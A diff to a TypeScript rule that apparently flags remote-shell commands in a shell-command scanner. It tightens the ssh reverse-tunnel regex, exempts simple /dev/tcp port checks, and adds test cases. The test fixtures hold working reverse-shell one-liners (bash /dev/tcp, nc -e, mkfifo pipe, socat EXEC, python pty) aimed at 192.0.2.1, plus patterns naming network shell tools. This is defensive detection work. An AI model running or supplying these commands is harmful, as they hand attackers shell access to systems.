@@ -15,7 +15,11 @@ const table: Table = [
     'high',
     'opens a way into the machine',
   ],
-  [/^ssh .*-\w*R/, 'high', 'opens a way into the machine'],
+  [
+    /^ssh (?:(?:-[46AaCfGgKkMNnqsTtVvXxYy]+|-[BbcDEeFIiJLlmOopQSWw] ?\S+) )*(?:[^-\s]\S* (?:(?:-[46AaCfGgKkMNnqsTtVvXxYy]+|-[BbcDEeFIiJLlmOopQSWw] ?\S+) )*)?-\w*R/,
+    'high',
+    'opens a way into the machine',
+  ],
   [/^(?:ttyd|shellinaboxd|gotty|wetty|tmate|teleconsole)\b/, 'critical', 'hands a shell to the network'],
   [/^telnetd\b|^in\.telnetd|^rshd\b/, 'critical', 'hands a shell to the network'],
 ];
@@ -24,14 +28,28 @@ const socket = /^\/dev\/(?:tcp|udp)\//;
 const isSocket = (text: string): boolean => socket.test(text);
 const networkTool = /^(?:nc|ncat|netcat|telnet|socat|openssl|curl|wget|gawk|awk)$/;
 
+const saysNothing = /^(?:|:|true|echo)$/;
+const takesCode = /^(?:eval|source|\.|exec|xargs|\uFFFC.*)$/;
+
+/** Only opens the connection; nothing but the shells that it stands in could take orders from there. */
+function checksPort(use: Use, operator: string): boolean {
+  const around = new Set(use.command.inside.map((each) => each.command));
+  const others = use.all.filter((each) => !around.has(each)).map((each) => nameOf(each.program));
+  return (
+    saysNothing.test(use.name) &&
+    /^[<>]$/.test(operator) &&
+    !others.some((each) => isShell(each) || takesCode.test(each))
+  );
+}
+
 function checkSockets(use: Use): readonly (Finding | undefined)[] {
   return use.command.redirections
     .filter((each) => isSocket(each.target.shown))
     .map(({ operator, target }) => {
+      if (checksPort(use, operator)) return undefined;
       const shell = isShell(use.name) || use.name === 'exec' || use.all.some((each) => isShell(nameOf(each.program)));
       if (shell || operator === '<>' || operator === '>&' || operator === '&>')
         return { level: 'critical', message: 'connects a shell to the network', place: target.place };
-      if (use.name === '' || use.name === ':' || use.name === 'true' || use.name === 'echo') return undefined;
       return { level: 'high', message: 'sends what it prints to the network', place: target.place };
     });
 }
@@ -77,8 +95,10 @@ export const openRemoteShell: Rule = {
     match: [
       ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'critical'],
       ['nc -e /bin/sh 192.0.2.1 4444', 'critical'],
+      ['ssh -o ServerAliveInterval=30 -fNR 2222:localhost:22 user@192.0.2.1', 'high'],
       ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f', 'critical'],
       ['socat TCP:192.0.2.1:4444 EXEC:/bin/bash', 'critical'],
+      ["bash -c '{ sh; } < /dev/tcp/192.0.2.1/4444'", 'critical'],
       [
         'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
         'critical',
@@ -89,7 +109,9 @@ export const openRemoteShell: Rule = {
       'openssl s_client -connect x:443',
       'socat - TCP:localhost:80',
       'ssh host uptime',
+      'ssh -p 22 host ls -R /srv',
       'echo > /dev/tcp/localhost/80',
+      "timeout 3 bash -c '</dev/tcp/127.0.0.1/8080'",
     ],
   },
   check: (use) => [...lookUp(use, table), ...checkSockets(use), checkPipe(use), spawns(use), dynamic(use)],
